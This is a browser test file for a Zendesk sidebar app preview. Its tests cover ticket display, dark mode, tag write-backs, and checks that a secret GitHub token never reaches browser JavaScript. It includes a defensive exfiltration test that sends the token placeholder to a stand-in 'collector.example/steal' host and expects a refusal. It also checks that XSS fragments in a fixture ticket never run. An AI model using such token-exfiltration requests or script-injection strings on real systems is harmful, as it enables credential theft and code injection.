// Foundation: the built app runs on the real ZAF SDK inside the preview's ticket page in Chromium.
// - the app registers and shows a fixture ticket's subject;
// - dark mode switches live;
// - a bundle from --tickets shows (and malformed ones are listed);
// - a request with a secure placeholder reaches the GitHub stand-in with the setting substituted, while neither the
//   page's nor the iframe's JavaScript ever sees the token.
// Needs `npm run build` first (npm test does it).
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { TicketBundle } from '../../src/core/types/zendesk.ts';
import { requireBuild } from '../support/dist.ts';
import { control, openTicket, postFromApp, recordAppEvents, startHarness, waitForAppEvent, type Harness } from '../support/harness.ts';

const TOKEN = `ghp_browserTest${randomBytes(12).toString('hex')}`;
const fixture = (name: string) => JSON.parse(readFileSync(name, 'utf8')) as TicketBundle;
const acme = fixture('preview/tickets/1001-acme-helm-gitserver.json');
const oceanic = fixture('test/fixtures/preview-tickets/2001-oceanic-frontend-oom.json');

let h: Harness;
// Generous: other test files (and, in a shared tree, other builds) may load the machine; these are not timings.
const eventually = { timeout: 10_000 };
const slowly = { timeout: 30_000 };

beforeAll(async () => {
  requireBuild();
  h = await startHarness({
    ticketDirs: ['test/fixtures/preview-tickets'],
    settings: { settings: { label_rfh: 'rfh' }, secure: { github_token: TOKEN } },
  });
});

afterAll(async () => {
  await h?.close();
});

beforeEach(async () => {
  await control(h, 'POST', '/__reset', {});
});

describe('the app in the preview', () => {
  it('registers on the real SDK and shows the fixture ticket subject, with the page around it', async () => {
    const { page, frame } = await openTicket(h, 1001);
    const panel = frame.getByTestId('engage-panel');
    await expect.poll(() => panel.textContent(), slowly).toContain(acme.ticket.subject);
    // The host page shows the ticket (conversation, internal note marked, attachments) next to the sidebar.
    await expect.poll(() => page.getByTestId('ticket-subject').textContent(), eventually).toBe(acme.ticket.subject);
    expect(await page.locator('.comment.internal').count()).toBe(acme.comments.filter((c) => !c.public).length);
    expect(await page.locator('.attachments a').count()).toBe(acme.comments.flatMap((c) => c.attachments).length);
    // The sidebar is 320-380 px wide, and the app resized its iframe to its content.
    const box = await page.getByTestId('app-frame').boundingBox();
    expect(box!.width).toBeGreaterThanOrEqual(320);
    expect(box!.width).toBeLessThanOrEqual(380);
    await expect.poll(() => page.locator('#protocol-log').textContent(), eventually).toContain('invoke resize');
    expect(h.errors.filter((e) => !e.includes('favicon'))).toEqual([]);
    await page.close();
  });

  it('answers get with the ticket and currentUser.locale from ?locale=', async () => {
    const { page, frame } = await openTicket(h, 1001, { locale: 'de' });
    const answer = await postFromApp(frame, { id: 90_001, request: 'get', params: ['ticket.subject', 'currentUser.locale', 'ticket.nope'] }, { id: 90_001 });
    const result = answer.result as Record<string, unknown> & { errors: Record<string, unknown> };
    expect(result['ticket.subject']).toBe(acme.ticket.subject);
    expect(result['currentUser.locale']).toBe('de');
    expect(Object.keys(result.errors)).toEqual(['ticket.nope']);
    await page.close();
  });

  it('switches dark mode live through colorScheme.changed', async () => {
    const { page, frame } = await openTicket(h, 1001);
    const root = frame.locator('[data-color-scheme]').first();
    await expect.poll(() => root.getAttribute('data-color-scheme'), slowly).toBe('light');
    const panel = frame.getByTestId('engage-panel');
    await panel.waitFor();
    const lightColor = await panel.evaluate((el) => getComputedStyle(el).color);
    await recordAppEvents(frame);
    await page.getByTestId('color-scheme-toggle').check();
    expect(await waitForAppEvent(frame, 'colorScheme.changed')).toBe('dark');
    await expect.poll(() => root.getAttribute('data-color-scheme'), eventually).toBe('dark');
    await expect.poll(() => panel.evaluate((el) => getComputedStyle(el).color), eventually).not.toBe(lightColor);
    expect(await page.evaluate(() => document.documentElement.dataset.colorScheme)).toBe('dark');
    await page.getByTestId('color-scheme-toggle').uncheck();
    await expect.poll(() => root.getAttribute('data-color-scheme'), eventually).toBe('light');
    await page.close();
  });

  it('starts dark when the page is opened with ?colorScheme=dark', async () => {
    const { page, frame } = await openTicket(h, 1002, { colorScheme: 'dark' });
    expect(new URL(frame.url()).searchParams.get('colorScheme')).toBe('dark');
    await expect.poll(() => frame.locator('[data-color-scheme]').first().getAttribute('data-color-scheme'), slowly).toBe('dark');
    await page.close();
  });

  it('shows a bundle added with --tickets, and lists the malformed ones with file and field', async () => {
    const page = await h.context.newPage();
    await page.goto(h.preview.url);
    await expect.poll(() => page.getByTestId('ticket-row-2001').textContent(), eventually).toContain(oceanic.ticket.subject);
    const problems = await page.getByTestId('bundle-problem').allTextContents();
    expect(problems.some((p) => p.includes('2002-malformed-comment.json') && p.includes('comments[1].author_id'))).toBe(true);
    expect(problems.some((p) => p.includes('2003-truncated.json') && p.includes('not valid JSON'))).toBe(true);
    const { frame } = await openTicket(h, 2001, { page });
    await expect.poll(() => frame.getByTestId('engage-panel').textContent(), slowly).toContain(oceanic.ticket.subject);
    await page.close();
  });
});

describe('write-backs', () => {
  it('shows what the app wrote and fires ticket.tags.changed', async () => {
    const { page, frame } = await openTicket(h, 1003);
    await recordAppEvents(frame);
    const reply = await postFromApp(
      frame,
      {
        key: 'request:9001',
        message: {
          url: '/api/v2/tickets/1003.json',
          type: 'PUT',
          contentType: 'application/json',
          data: JSON.stringify({ ticket: { comment: { body: 'Engage: RFH <filed> as #7', public: false }, additional_tags: ['rfh', 'rfh_issue_7'] } }),
        },
      },
      { key: 'zaf.request:9001.done' },
    );
    const [data] = (reply.message as { responseArgs: [{ ticket: { tags: string[] } }] }).responseArgs;
    expect(data.ticket.tags).toContain('rfh_issue_7');
    const tags = (await waitForAppEvent(frame, 'ticket.tags.changed')) as string[];
    expect(tags).toContain('rfh_issue_7');
    const written = page.getByTestId('written-by-app');
    await expect.poll(() => written.textContent(), eventually).toContain('Tags added: rfh, rfh_issue_7');
    await expect.poll(() => page.locator('.comment.by-app .comment-body').textContent(), eventually).toBe('Engage: RFH <filed> as #7');
    await expect.poll(() => page.getByTestId('ticket-tags').textContent(), eventually).toContain('rfh_issue_7');
    await page.close();
  });
});

describe('the GitHub token', () => {
  it('is substituted server-side into a secure request to the stand-in and never reaches the browser', async () => {
    const { page, frame } = await openTicket(h, 1001);
    const headers = { Authorization: 'Bearer {{setting.github_token}}', Accept: 'application/vnd.github+json' };
    const ok = await postFromApp(
      frame,
      { key: 'request:9101', message: { url: 'https://api.github.com/repos/sourcegraph/customer', type: 'GET', headers, secure: true, httpCompleteResponse: true } },
      { key: 'zaf.request:9101.done' },
    );
    const [complete] = (ok.message as { responseArgs: [{ status: number; responseJSON: { full_name: string } }] }).responseArgs;
    expect(complete.status).toBe(200);
    expect(complete.responseJSON.full_name).toBe('sourcegraph/customer');
    // The stand-in only accepts the real token: it saw the substituted value.
    expect(h.preview.standIn.requestLog()).toContainEqual({ method: 'GET', path: '/repos/sourcegraph/customer', status: 200 });

    // Without `secure: true` the placeholder is not replaced, and GitHub refuses it.
    const refused = await postFromApp(
      frame,
      { key: 'request:9102', message: { url: 'https://api.github.com/repos/sourcegraph/customer', type: 'GET', headers } },
      { key: 'zaf.request:9102.fail' },
    );
    expect((refused.message as { responseArgs: [{ status: number }] }).responseArgs[0].status).toBe(401);

    // Nothing the browser holds or ever received carries the token.
    await h.settleTraffic();
    expect(h.traffic.length).toBeGreaterThan(5);
    const leaks = h.traffic
      .filter((t) => [t.url, JSON.stringify(t.requestHeaders), t.postData ?? '', JSON.stringify(t.responseHeaders), t.responseBody ?? ''].join('\n').includes(TOKEN))
      .map((t) => `${t.method} ${t.url}`);
    expect(leaks).toEqual([]);
    for (const ctx of [page.mainFrame(), frame]) {
      const exposed = await ctx.evaluate(() => {
        const parts: string[] = [document.documentElement.outerHTML, document.cookie];
        for (const name of ['localStorage', 'sessionStorage'] as const) {
          try {
            const store = window[name];
            for (let i = 0; i < store.length; i++) parts.push(store.getItem(store.key(i)!) ?? '');
          } catch {
            /* storage denied to this document (e.g. a cross-origin frame): it cannot hold anything either */
          }
        }
        for (const key of Object.getOwnPropertyNames(window)) {
          try {
            const v = (window as unknown as Record<string, unknown>)[key];
            if (typeof v === 'string') parts.push(v);
            else if (v && typeof v === 'object' && v !== window) parts.push(JSON.stringify(v) ?? '');
          } catch {
            /* cyclic or cross-origin values cannot hold a string copy of the token */
          }
        }
        return parts.join('\n');
      });
      expect(exposed.length).toBeGreaterThan(100);
      expect(exposed.includes(TOKEN), `token visible to the JavaScript of ${ctx.url()}`).toBe(false);
    }
    await page.close();
  });

  it('is refused for hosts outside domainWhitelist', async () => {
    const { page, frame } = await openTicket(h, 1001);
    const refused = await postFromApp(
      frame,
      { key: 'request:9201', message: { url: 'https://collector.example/steal', headers: { Authorization: '{{setting.github_token}}' }, secure: true } },
      { key: 'zaf.request:9201.fail' },
    );
    const [err] = (refused.message as { responseArgs: [{ status: number; responseJSON: { error: string } }] }).responseArgs;
    expect(err.status).toBe(403);
    expect(err.responseJSON.error).toBe('DomainNotAllowed');
    await page.close();
  });
});

describe('hostile ticket text', () => {
  it('is shown as text on the list, the ticket page and in the app, and never runs', async () => {
    const dialogs: string[] = [];
    const page = await h.context.newPage();
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await page.goto(h.preview.url);
    await expect.poll(() => page.getByTestId('ticket-row-2004').textContent(), eventually).toContain('<img src=x onerror=');
    const { frame } = await openTicket(h, 2004, { page });
    const subject = page.getByTestId('ticket-subject');
    await expect.poll(() => subject.textContent(), eventually).toContain('</title><script>');
    await expect.poll(() => frame.getByTestId('engage-panel').textContent(), slowly).toContain('Search broken');
    // Let the poll re-render once more, then look for anything the text could have created or run.
    await page.waitForTimeout(2000);
    const pageState = await page.evaluate(() => ({
      pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null,
      injected: document.querySelectorAll('#ticket img, #ticket svg, #ticket script, #ticket iframe, [onerror], [onload]').length,
      links: [...document.querySelectorAll('#ticket a')].map((a) => (a as HTMLAnchorElement).protocol),
      comment: document.querySelector('.comment-body')?.textContent ?? '',
      attachment: document.querySelector('.attachments li')?.textContent ?? '',
    }));
    expect(pageState.pwned).toBeNull();
    expect(pageState.injected).toBe(0);
    expect(pageState.links.every((p) => p === 'https:' || p === 'http:')).toBe(true);
    expect(pageState.comment).toContain('</textarea></pre><script>');
    // The javascript: attachment URL is shown as a name, not a link.
    expect(pageState.attachment).toContain('<img src=x onerror=');
    expect(await frame.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned ?? null)).toBeNull();
    expect(dialogs).toEqual([]);
    await page.close();
  });
});

describe('the ticket.save hook', () => {
  it('asks the app through the real SDK when it listens for ticket.save', async () => {
    const { page, frame } = await openTicket(h, 1005);
    await page.getByTestId('submit-button').click();
    await expect.poll(() => page.getByTestId('save-result').textContent(), eventually).toMatch(/no ticket.save handler|allowed/);
    // Subscribe the way the SDK does for client.on('ticket.save'); the SDK in the iframe then answers the hook.
    await frame.evaluate(() => {
      const params = new URL(location.href).searchParams;
      const guid = params.get('app_guid');
      window.parent.postMessage(
        JSON.stringify({ key: 'iframe.on:ticket.save', message: { subscriberCount: 1 }, appGuid: guid, instanceGuid: guid }),
        params.get('origin') ?? '',
      );
    });
    await page.getByTestId('save-result').evaluate((el) => (el.textContent = ''));
    await page.getByTestId('submit-button').click();
    await expect.poll(() => page.getByTestId('save-result').textContent(), eventually).toBe('Submitted: the app allowed the save.');
    await page.close();
  });
});
